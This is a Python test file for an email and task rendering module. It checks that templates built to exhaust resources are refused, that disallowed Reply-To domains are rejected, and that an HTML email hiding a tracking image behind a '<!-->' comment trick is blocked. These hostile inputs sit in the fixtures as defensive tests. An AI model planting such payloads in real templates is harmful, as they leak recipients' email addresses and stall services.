"""A stored configuration the checks would now refuse, or one whose rendering runs long,
cannot stall the worker: the step is refused (permanent, a case for a person), never
rendered at length. And a Reply-To outside ONEFOLD_REPLY_TO_DOMAINS is never sent, nor
an HTML email that would have the mail client fetch what its template's text does not
write.

Pure tests of execution/rendering.py: a version built in memory, no database.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime
from typing import Any

import pytest

from idempotency_core.configuration.versions import ConfigVersion
from idempotency_core.execution.rendering import (
    RenderInput,
    confirmation_render,
    enquiry_render,
    task_render,
)
from integrations.base import Classification, DestinationError
from tests.factories import submission

NOW = datetime(2026, 11, 29, 10, 15, tzinfo=UTC)


def version(forms: dict[str, Any]) -> ConfigVersion:
    return ConfigVersion(7, {"sources": {"website": {"forms": forms}}})


def inp(**overrides: Any) -> RenderInput:
    return RenderInput(
        payload=submission(**overrides),
        source="website",
        default_assignee="sales",
        refs={},
        now=NOW,
    )


def no_turn(scope: str) -> int:
    raise AssertionError(scope)


@pytest.mark.parametrize(
    "title",
    [
        "{{ message|ljust:300000000 }}",
        '{{ 5|stringformat:"0200000000d" }}',
        "".join(f"{{% for x{n} in message %}}" for n in range(7)) + "x" + "{% endfor %}" * 7,
        "{{ submitted_at.now }}",
    ],
)
def test_a_stored_template_beyond_the_limits_is_refused_at_once(title: str) -> None:
    started = time.monotonic()
    with pytest.raises(DestinationError) as raised:
        task_render(inp(message="m" * 10), version({"*": {"task": {"title": title}}}), no_turn)
    assert raised.value.classification == Classification.PERMANENT
    assert time.monotonic() - started < 2


def test_one_contents_templates_share_one_budget() -> None:
    # Each property alone is within bounds; together they are past the content's.
    big = "{% for a in message %}{{ message }}{% endfor %}"
    fields = {f"p{n}": big for n in range(50)}
    started = time.monotonic()
    with pytest.raises(DestinationError, match="longer than"):
        enquiry_render(
            inp(message="x" * 200), version({"*": {"enquiry": {"fields": fields}}}), no_turn
        )
    assert time.monotonic() - started < 5


def test_a_reply_to_outside_the_allowed_domains_is_never_sent(settings: Any) -> None:
    # Configured before ONEFOLD_REPLY_TO_DOMAINS was set: rendering holds it to them.
    settings.ONEFOLD_REPLY_TO_DOMAINS = ["example.com"]

    def reply_to(address: str) -> Any:
        block = {"confirmation": {"reply_to": address}}
        return confirmation_render(inp(), version({"*": block}), no_turn)["reply_to"]

    with pytest.raises(DestinationError, match=r"example\.com") as raised:
        reply_to("office@collector.example")
    assert raised.value.classification == Classification.PERMANENT
    assert reply_to("desk@sales.example.com") == "desk@sales.example.com"


def test_an_html_email_that_would_send_the_address_out_is_never_sent() -> None:
    # Stored before the rule: behind a comment a browser ends at `<!-->`.
    html = '<p>Hi</p><!--><img src="https://t.example/p.gif?e={{ contact.email|urlencode }}">'
    with pytest.raises(DestinationError, match=r"not written in the template|comment") as raised:
        confirmation_render(inp(), version({"*": {"confirmation": {"html": html}}}), no_turn)
    assert raised.value.classification == Classification.PERMANENT
    fixed = '<p>Hi {{ contact.first_name }}</p><img src="https://example.com/logo.png">'
    content = confirmation_render(inp(), version({"*": {"confirmation": {"html": fixed}}}), no_turn)
    assert content["html"] == '<p>Hi Ada</p><img src="https://example.com/logo.png">'
